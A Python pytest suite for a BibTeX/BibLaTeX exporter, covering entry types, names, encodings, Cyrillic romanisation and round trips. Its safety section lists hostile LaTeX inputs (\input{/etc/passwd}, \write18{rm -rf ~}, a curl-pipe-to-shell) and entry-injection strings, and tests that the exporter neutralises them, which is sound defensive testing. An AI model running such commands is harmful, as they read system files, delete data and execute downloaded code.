"""BibTeX/BibLaTeX export: entry types, names, fields, encodings, safety and round trips.

Every .bib written here is read back twice, with pybtex and with bibtexparser v2, and decoded
with pylatexenc: the Unicode text must be what the references held (nothing lost), and nothing
from a manuscript may come out as live LaTeX.
"""

from __future__ import annotations

import functools
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import bibtexparser
import pybtex.database
import pytest
from bibtexparser.middlewares import (
    MonthLongStringMiddleware,
    SeparateCoAuthors,
    SplitNameParts,
)
from helpers import latex_decoder
from hypothesis import given, settings
from hypothesis import strategies as st

from refcheck.errors import ExportError
from refcheck.exporter import export
from refcheck.exporter.bibtex import BibOptions, bib_entry, to_bibliography, to_bibtex
from refcheck.exporter.keys import citation_keys, has_cyrillic, romanise
from refcheck.exporter.latex import smart_quotes
from refcheck.exporter.ris import parse_ris
from refcheck.model import (
    Organization,
    ParseStatus,
    PartialDate,
    Person,
    Reference,
    Script,
    Span,
)

GOLDEN = Path(__file__).parent / "golden"
parse_bib = bibtexparser.parse_string  # type: ignore[attr-defined]  # re-exported, untyped


DEC = latex_decoder()


def dec(s: str) -> str:
    return str(DEC.latex_to_text(s))


VERBATIM = frozenset({"url", "doi"})  # verbatim in biblatex: read as written, not as LaTeX


def dec_field(name: str, value: str) -> str:
    return value if name.lower() in VERBATIM else dec(value)


def ref(index: int = 1, **kw: Any) -> Reference:
    raw = kw.pop("raw", f"entry {index}")
    return Reference(index=index, raw=raw, span=Span(0, 1), line=index * 2, **kw)


FRIEDBERG = ref(
    1,
    type="article-journal",
    authors=(Person("Friedberg", "A. L."),),
    year=1993,
    title="Ripe for rivalry: Prospects for peace in a multipolar Asia",
    container_title="International Security",
    volume="18",
    issue="3",
    pages="5–33",
    doi="10.2307/2539204",
)
YUZBASIOGLU = ref(
    2,
    type="article-newspaper",
    authors=(Person("Yüzbaşıoğlu", "N."), Person("Çam", "Ö. T.")),
    year=2020,
    title="Dışişleri Bakanı Çavuşoğlu: Tüm imkânlarımızla Azerbaycan'ın yanındayız",
    container_title="Anadolu Ajansı",
    url="https://www.aa.com.tr/tr/politika/disisleri-bakani-cavusoglu/1908565",
    accessed=PartialDate(2024, 6, 24),
    language="tr",
    script=Script.LATIN,
)
MFA = ref(
    3,
    type="webpage",
    authors=(Organization("Ministry of Foreign Affairs of the Republic of Türkiye"),),
    year=2020,
    year_suffix="b",
    date=PartialDate(2020, 9, 27),
    title="QA-94, 27 September 2020, Statement of the spokesperson",
    url="https://www.mfa.gov.tr/sc_-94_-ermenistan.en.mfa",
    accessed=PartialDate(2024, 5, 31),
    language="en",
)
XALQ = ref(
    4,
    type="webpage",
    authors=(Organization("Xalq Cəbhəsi Qəzeti"),),
    year=2021,
    date=PartialDate(2021, 10, 5),
    title="Zəfər xronikası: Prezident İlham Əliyevin müsahibəsi",
    title_translation="Victory chronicle: President Ilham Aliyev's interview",
    language="az",
)
BEREZOVSKY = ref(
    5,
    type="article-newspaper",
    authors=(Person("Березовский", "Г."),),
    year=2020,
    date=PartialDate(2020, 12, 9),
    title="«Парад победителей»: Эрдоган приехал в Баку",
    container_title="Газета.Ru",
    url="https://www.gazeta.ru/politics/2020/12/09_a_13392853.shtml",
    language="ru",
    script=Script.CYRILLIC,
)
CLAUSEWITZ = ref(
    6,
    type="book",
    authors=(
        Person("Clausewitz", "Carl", particle="von"),
        Person("King", "Martin L.", suffix="Jr."),
    ),
    et_al=True,
    year=1832,
    title="Vom Kriege",
    edition="2",
    publisher="Dümmler",
    place="Berlin",
    language="de",
)
CHAPTER = ref(
    7,
    type="chapter",
    authors=(Person("Taliaferro", "Jeffrey W."),),
    editors=(Person("Lobell", "Steven E."),),
    year=2009,
    title="Introduction: Neoclassical realism, the state, and foreign policy",
    container_title="Neoclassical Realism, the State, and Foreign Policy",
    pages="1-41",
    publisher="Cambridge University Press",
    place="Cambridge",
)
THESIS = ref(
    8,
    type="thesis",
    authors=(Person("García Márquez", "Ana"),),
    year=2019,
    genre="Doctoral dissertation",
    title="Drones and deterrence",
    publisher="Universidad de Madrid",
)
UNPARSED = ref(
    9,
    raw="Hecht, E. {broken @ entry} 100% \\input{x}",
    status=ParseStatus.UNPARSED,
    reason="no year found",
)
INPRESS = ref(
    10,
    type="report",
    authors=(Person("Smith", "J."),),
    in_press=True,
    title="A report",
    publisher="RAND",
)
NODATE = ref(11, type="webpage", authors=(Person("Doe", "J."),), no_date=True, title="Undated")

REFS = [
    FRIEDBERG, YUZBASIOGLU, MFA, XALQ, BEREZOVSKY, CLAUSEWITZ, CHAPTER, THESIS, UNPARSED, INPRESS,
    NODATE,
]  # fmt: skip


def entries(bib: str) -> dict[str, Any]:
    return dict(pybtex.database.parse_string(bib, "bibtex").entries)


def fields(bib: str) -> dict[str, dict[str, str]]:
    """key → {field: decoded Unicode}, persons as 'Family, Given' joined by ' and '."""
    out: dict[str, dict[str, str]] = {}
    for key, e in entries(bib).items():
        f = {k.lower(): dec_field(k, v) for k, v in e.fields.items()}
        for role, persons in e.persons.items():
            f[role] = " and ".join(_pybtex_name(p) for p in persons)
        out[key] = f
    return out


def _pybtex_name(p: Any) -> str:
    last = dec(" ".join(p.prelast_names + p.last_names))
    first = dec(" ".join(p.first_names + p.middle_names))
    lineage = dec(" ".join(p.lineage_names))
    return ", ".join(x for x in (last, lineage, first) if x)


def bibtexparser_fields(bib: str) -> dict[str, dict[str, str]]:
    lib = parse_bib(
        bib,
        append_middleware=[
            SeparateCoAuthors(),
            SplitNameParts(),
            MonthLongStringMiddleware(),
        ],
    )
    assert not lib.failed_blocks
    out: dict[str, dict[str, str]] = {}
    for e in lib.entries:
        f: dict[str, str] = {}
        for fld in e.fields:
            if fld.key in ("author", "editor"):
                names = []
                for n in fld.value:
                    last = dec(" ".join(n.von + n.last))
                    parts = [last, dec(" ".join(n.jr)), dec(" ".join(n.first))]
                    names.append(", ".join(x for x in parts if x))
                f[fld.key] = " and ".join(names)
            else:
                f[fld.key.lower()] = dec_field(fld.key, fld.value)
        out[e.key] = f
    return out


# --------------------------------------------------------------------------- types and fields


@pytest.mark.parametrize(
    ("reference", "bibtex_type", "biblatex_type"),
    [
        (FRIEDBERG, "article", "article"),
        (YUZBASIOGLU, "article", "article"),
        (MFA, "misc", "online"),
        (CLAUSEWITZ, "book", "book"),
        (CHAPTER, "incollection", "incollection"),
        (THESIS, "phdthesis", "thesis"),
        (INPRESS, "techreport", "report"),
        (UNPARSED, "misc", "misc"),
        (ref(type="dataset", title="Data", year=2020), "misc", "misc"),
    ],
)
def test_entry_types(reference: Reference, bibtex_type: str, biblatex_type: str) -> None:
    assert next(iter(entries(to_bibtex([reference])).values())).type == bibtex_type
    assert next(iter(entries(to_bibtex([reference], biblatex=True)).values())).type == biblatex_type


def test_biblatex_newspapers_are_nonacademic_periodicals() -> None:
    """biblatex-apa prints a subtype it does not know as "[newspaper]" and drops month and day;
    ``nonacademic`` is its subtype for periodicals that are not journals (issue 16 row 2)."""
    f = fields(to_bibtex([YUZBASIOGLU], biblatex=True))["yuzbasioglu2020disisleri"]
    assert f["entrysubtype"] == "nonacademic"
    assert f["journaltitle"] == "Anadolu Ajansı"
    assert f["langid"] == "turkish"
    assert f["urldate"] == "2024-06-24"
    assert f["date"] == "2020"


def test_bibtex_fields_of_a_journal_article() -> None:
    bib = to_bibtex([FRIEDBERG])
    assert "pages = {5--33}" in bib
    assert "doi = {10.2307/2539204}" in bib
    f = fields(bib)["friedberg1993ripe"]
    assert f == {
        "author": "Friedberg, A. L.",
        "title": "Ripe for rivalry: Prospects for peace in a multipolar Asia",
        "journal": "International Security",
        "year": "1993",
        "volume": "18",
        "number": "3",
        "pages": "5–33",
        "doi": "10.2307/2539204",
    }


def test_persons_particles_suffixes_groups_and_others() -> None:
    e = entries(to_bibtex([CLAUSEWITZ, MFA]))
    people = e["clausewitz1832vom"].persons["author"]
    assert people[0].prelast_names == ["von"]
    assert people[0].last_names == ["Clausewitz"]
    assert people[1].lineage_names == ["Jr."]
    assert str(people[2]) == "others"
    group = e["ministry2020bqa94"].persons["author"]
    assert len(group) == 1
    assert group[0].last_names == ["{Ministry of Foreign Affairs of the Republic of Türkiye}"]
    assert "author = {{Ministry of Foreign Affairs of the Republic of Türkiye}}" in to_bibtex([MFA])


def test_two_word_family_name_stays_one_family() -> None:
    p = entries(to_bibtex([THESIS]))["garciamarquez2019drones"].persons["author"][0]
    assert p.last_names == ["{García Márquez}"]
    assert p.first_names == ["Ana"]


def test_dates_month_and_biblatex_iso() -> None:
    assert "    month = sep,\n" in to_bibtex([MFA])
    assert fields(to_bibtex([MFA]))["ministry2020bqa94"]["month"] == "September"
    assert fields(to_bibtex([MFA], biblatex=True))["ministry2020bqa94"]["date"] == "2020-09-27"


def test_in_press_and_no_date() -> None:
    bt = fields(to_bibtex([INPRESS, NODATE]))
    bl = fields(to_bibtex([INPRESS, NODATE], biblatex=True))
    assert bt["smithinpressreport"]["year"] == "in press"
    assert bl["smithinpressreport"]["pubstate"] == "inpress"
    assert "date" not in bl["smithinpressreport"]
    assert bt["doendundated"]["year"] == "n.d."
    assert "date" not in bl["doendundated"] and "year" not in bl["doendundated"]
    assert bt["smithinpressreport"]["institution"] == "RAND"


def test_chapter_editor_booktitle_thesis_school() -> None:
    f = fields(to_bibtex([CHAPTER, THESIS]))
    ch = f["taliaferro2009introduction"]
    assert ch["editor"] == "Lobell, Steven E."
    assert ch["booktitle"] == "Neoclassical Realism, the State, and Foreign Policy"
    assert ch["address"] == "Cambridge"
    assert ch["pages"] == "1–41"
    assert f["garciamarquez2019drones"]["school"] == "Universidad de Madrid"
    assert f["garciamarquez2019drones"]["type"] == "Doctoral dissertation"
    bl = fields(to_bibtex([CHAPTER, THESIS], biblatex=True))
    assert bl["taliaferro2009introduction"]["location"] == "Cambridge"
    assert bl["garciamarquez2019drones"]["institution"] == "Universidad de Madrid"


def test_cyrillic_entry_romanised_with_original_beside_it_in_usera() -> None:
    """biblatex-apa prints ``origtitle`` as the title and ``title`` in brackets as if it were a
    translation: the original script goes to ``usera``, which no style prints (row 1)."""
    bib = to_bibtex([BEREZOVSKY], biblatex=True)
    f = fields(bib)["berezovskii2020parad"]
    assert f["author"] == "Berezovskiĭ, G."
    assert f["title"] == "«Parad pobediteleĭ»: Ėrdogan priekhal v Baku"
    assert "origtitle" not in f
    assert f["usera"] == "«Парад победителей»: Эрдоган приехал в Баку"
    assert f["journaltitle"] == "Gazeta.Ru"
    assert f["langid"] == "russian"


def test_cyrillic_in_ascii_mode_is_romanised_and_warned() -> None:
    bib = to_bibtex([BEREZOVSKY], encoding="ascii")
    assert bib.isascii()
    assert "% original Cyrillic title omitted in 7-bit output" in bib
    f = fields(bib)["berezovskii2020parad"]
    assert f["title"] == "«Parad pobediteleĭ»: Ėrdogan priekhal v Baku"
    assert "origtitle" not in f and "usera" not in f


def test_translation_goes_to_titleaddon() -> None:
    f = fields(to_bibtex([XALQ], biblatex=True))["xalq2021zefer"]
    assert f["titleaddon"] == "Victory chronicle: President Ilham Aliyev's interview"
    assert f["langid"] == "azerbaijani"


def test_schwa_in_ascii_mode() -> None:
    bib = to_bibtex([XALQ], encoding="ascii")
    assert bib.isascii()
    assert r"Z{\textschwa}f{\textschwa}r" in bib
    assert r"{{\textSchwa{\textschwa}}}liyevin" in bib  # capital after the first word: protected
    assert r"@preamble{{\providecommand{\textSchwa}[1]{\ifcsname T2A" in bib
    assert r"\usepackage{tipa}" in bib
    f = fields(bib)["xalq2021zefer"]
    assert f["title"] == XALQ.title
    assert f["author"] == "Xalq Cəbhəsi Qəzeti"
    assert "preamble" not in to_bibtex([FRIEDBERG], encoding="ascii")


def test_title_case_protection_in_output() -> None:
    bib = to_bibtex([YUZBASIOGLU])
    assert "title = {Dışişleri {B}akanı {Ç}avuşoğlu: {T}üm imkânlarımızla {A}zerbaycan'ın" in bib


def test_unparsed_entry_kept_with_raw_note_and_comment() -> None:
    bib = to_bibtex([UNPARSED])
    assert "% refcheck: unparsed entry 9 (line 18): no year found\n@misc{hecht" in bib
    f = fields(bib)
    (key,) = f
    assert f[key]["note"] == UNPARSED.raw
    assert "\\input{x}" not in bib


# --------------------------------------------------------------------------- safety


HOSTILE = [
    r"\input{/etc/passwd}",
    r"\write18{rm -rf ~}",
    r"\immediate\write18{curl x|sh}",
    "unbalanced { brace",
    "unbalanced } brace }}",
    "100% & #1 $x$ _a ^b ~c \\d",
    "@misc{injected, title={x}}",
    "% comment attempt\n@article{evil,",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("encoding", ["utf-8", "ascii"])
@pytest.mark.parametrize("biblatex", [False, True])
def test_hostile_text_comes_out_inert(text: str, encoding: str, biblatex: bool) -> None:
    r = ref(
        1,
        type="book",
        authors=(Person("Evil " + text, text),),
        year=2020,
        title=text,
        publisher=text,
        url="https://x.org/a{b}c\\d e",
        reason=text,
        status=ParseStatus.PARTIAL,
        raw=text,
    )
    bib = to_bibtex([r], biblatex=biblatex, encoding=encoding)
    assert not re.search(r"\\(input|write18|immediate)", bib)
    e = entries(bib)
    assert len(e) == 1
    (f,) = fields(bib).values()
    flat = " ".join(text.split())
    assert " ".join(f["title"].split()) == flat
    assert " ".join(f["publisher"].split()) == flat
    assert " ".join(f["note"].split()) == flat
    assert f["url"] == "https://x.org/a%7Bb%7Dc%5Cd%20e"
    assert len(parse_bib(bib).entries) == 1


# --------------------------------------------------------------------------- round trips


@pytest.mark.parametrize("encoding", ["utf-8", "ascii"])
@pytest.mark.parametrize("biblatex", [False, True])
def test_round_trip_pybtex_and_bibtexparser_agree_and_lose_nothing(
    encoding: str, biblatex: bool
) -> None:
    bib = to_bibtex(REFS, biblatex=biblatex, encoding=encoding)
    if encoding == "ascii":
        assert bib.isascii()
    via_pybtex = fields(bib)
    via_btp = bibtexparser_fields(bib)
    assert via_pybtex == via_btp
    assert len(via_pybtex) == len(REFS)
    f = via_pybtex["yuzbasioglu2020disisleri"]
    assert f["author"] == "Yüzbaşıoğlu, N. and Çam, Ö. T."
    assert f["title"] == YUZBASIOGLU.title
    assert f["url"] == YUZBASIOGLU.url
    assert f["langid" if biblatex else "language"] == "turkish"
    assert via_pybtex["clausewitz1832vom"]["publisher"] == "Dümmler"
    assert via_pybtex["clausewitz1832vom"]["author"] == (
        "von Clausewitz, Carl and King, Jr., Martin L. and others"
    )


def test_database_model_is_pybtex() -> None:
    data, _ = to_bibliography([FRIEDBERG, MFA])
    assert isinstance(data, pybtex.database.BibliographyData)
    assert list(data.entries) == ["friedberg1993ripe", "ministry2020bqa94"]
    e = bib_entry(FRIEDBERG, "k", BibOptions(biblatex=True), to_bibliography([])[1])
    assert e.fields["journaltitle"] == "International Security"


def test_export_entry_point_and_errors() -> None:
    assert export([FRIEDBERG], "biblatex").startswith("% refcheck export: 1 entries, biblatex")
    assert export([FRIEDBERG], "BibTeX", encoding="ascii").startswith(
        "% refcheck export: 1 entries, bibtex, 7-bit ascii"
    )
    with pytest.raises(ExportError, match="unknown export format 'endnote'"):
        export([FRIEDBERG], "endnote")
    with pytest.raises(ExportError, match="unknown encoding"):
        export([FRIEDBERG], "bibtex", encoding="latin-1")
    with pytest.raises(ExportError, match="unknown transliteration scheme"):
        export([BEREZOVSKY], "bibtex", scheme="klingon")
    empty = "% refcheck export: 0 entries, bibtex, utf-8, romanisation ala-lc, script romanised\n\n"
    assert export([], "bibtex") == empty


# --------------------------------------------------------------------------- the seed


@functools.lru_cache(maxsize=1)
def _seed_references() -> list[Reference]:
    from refcheck import api

    try:
        from refcheck.normalise import normalise_references

        doc = api.load(Path(__file__).parent.parent / "seeds" / "turan-2025-asya-studies.txt")
        refs = normalise_references(doc.references, scheme="ala-lc", text=doc.text)
    except Exception as exc:  # another stage not ready yet: the seed tests wait for it
        pytest.skip(f"seed cannot be loaded yet: {type(exc).__name__}: {exc}")
    return list(refs)


@pytest.mark.parametrize(
    ("fmt", "encoding", "golden"),
    [("biblatex", "utf-8", "seed.bib"), ("bibtex", "ascii", "seed-ascii.bib")],
)
def test_seed_golden(fmt: str, encoding: str, golden: str) -> None:
    """The seed's .bib, byte for byte; after a deliberate change: REFCHECK_UPDATE_GOLDEN=1."""
    refs = _seed_references()
    got = export(refs, fmt, encoding=encoding)
    path = GOLDEN / golden
    if os.environ.get("REFCHECK_UPDATE_GOLDEN") == "1":
        path.write_text(got, encoding="utf-8")
    assert path.exists(), f"{path} missing: run with REFCHECK_UPDATE_GOLDEN=1 and review the diff"
    assert got == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("encoding", ["utf-8", "ascii"])
def test_seed_round_trip_nothing_lost(encoding: str) -> None:
    """Every seed entry's fields come back from the .bib as the references hold them."""
    refs = _seed_references()
    bib = export(refs, "biblatex", encoding=encoding)
    assert bib.isascii() == (encoding == "ascii")
    via_pybtex = fields(bib)
    assert via_pybtex == bibtexparser_fields(bib)
    assert len(via_pybtex) == len(refs) == 42

    def rom(text: str) -> str:
        out = smart_quotes(romanise(text))  # text fields get typographic quotes (row 3)
        if encoding == "ascii":  # documented 7-bit losses: pylatexenc drops the tie of \t{iu},
            out = out.replace("\u0361", "").replace("ʹ", "'")  # the soft sign is written '
        return out

    for r, key in zip(refs, citation_keys(refs), strict=True):
        f = via_pybtex[key]
        assert f.get("title", "") == rom(r.title), key
        if has_cyrillic(r.title) and encoding == "utf-8":
            assert f["usera"] == smart_quotes(r.title)
        if encoding == "ascii":  # an IRI's non-ASCII letters are percent-encoded (same address)
            assert unquote(f.get("url", "")) == unquote(r.url), key
        else:
            assert f.get("url", "") == r.url, key
        assert f.get("doi", "") == r.doi, key
        assert f.get("volume", "") == r.volume and f.get("number", "") == r.issue, key
        assert f.get("pages", "") == r.pages.replace("-", "–"), key
        assert f.get("titleaddon", "") == smart_quotes(r.title_translation), key
        if r.status is not ParseStatus.PARSED:
            assert f["note"] == rom(r.raw), key
        names = [
            rom(a.name) if isinstance(a, Organization) else rom(a.family)
            for a in r.authors
        ]
        got = f.get("author", "")
        assert all(n in got for n in names), (key, names, got)


@pytest.mark.skipif(shutil.which("biber") is None, reason="biber not on PATH")
@pytest.mark.parametrize(("fmt", "encoding"), [("biblatex", "utf-8"), ("bibtex", "ascii")])
def test_seed_bib_is_accepted_by_biber(tmp_path: Path, fmt: str, encoding: str) -> None:
    """biber parses, validates against biblatex's data model and LaTeX-decodes the file."""
    refs = _seed_references()
    src = tmp_path / "seed.bib"
    src.write_text(export(refs, fmt, encoding=encoding), encoding="utf-8")
    out = tmp_path / "out.bib"
    proc = subprocess.run(
        ["biber", "--tool", "--validate-datamodel", "--output-file", str(out), str(src)],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "WARN" not in proc.stdout and "ERROR" not in proc.stdout, proc.stdout
    decoded = out.read_text(encoding="utf-8").replace("{", "").replace("}", "")
    assert decoded.count("@") == 42
    for text in ("Yüzbaşıoğlu, N. and Çam, Ö. T.", "Xalq Cəbhəsi Qəzeti", "İlham"):
        assert text in decoded


TEXT = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30
)
AGENTS = st.lists(
    st.one_of(
        st.builds(Person, TEXT, TEXT, TEXT, TEXT),
        st.builds(Organization, TEXT),
    ),
    max_size=3,
)


@st.composite
def references(draw: st.DrawFn) -> Reference:
    """Any Reference the parser could hand over, hostile text included."""
    year = draw(st.one_of(st.none(), st.integers(1, 9999)))
    month = draw(st.one_of(st.none(), st.integers(1, 12)))
    raw = draw(TEXT)
    return ref(
        1,
        raw=raw,
        reason=raw,
        type=draw(st.sampled_from(["article-journal", "book", "chapter", "webpage", "thesis", "x"])),
        title=draw(TEXT),
        container_title=draw(TEXT),
        pages=draw(TEXT),
        url=draw(TEXT),
        authors=tuple(draw(AGENTS)),
        editors=tuple(draw(AGENTS)),
        year=year,
        date=PartialDate(year, month) if year else None,
        et_al=draw(st.booleans()),
        status=draw(st.sampled_from(list(ParseStatus))),
    )


@settings(max_examples=int(os.environ.get("REFCHECK_EXPORT_EXAMPLES", "60")))
@given(r=references())
def test_any_reference_exports_and_reparses(r: Reference) -> None:
    """Whatever the parser hands over, every format is written and the .bib re-parses."""
    for fmt in ("bibtex", "biblatex"):
        for encoding in ("utf-8", "ascii"):
            bib = export([r, r], fmt, encoding=encoding)
            assert len(entries(bib)) == 2
            assert not re.search(r"\\(input|write18|immediate)", bib)
            if encoding == "ascii":
                assert bib.isascii()
    assert len(parse_ris(export([r], "ris"))) == 1
    assert len(json.loads(export([r], "csl-json"))) == 1
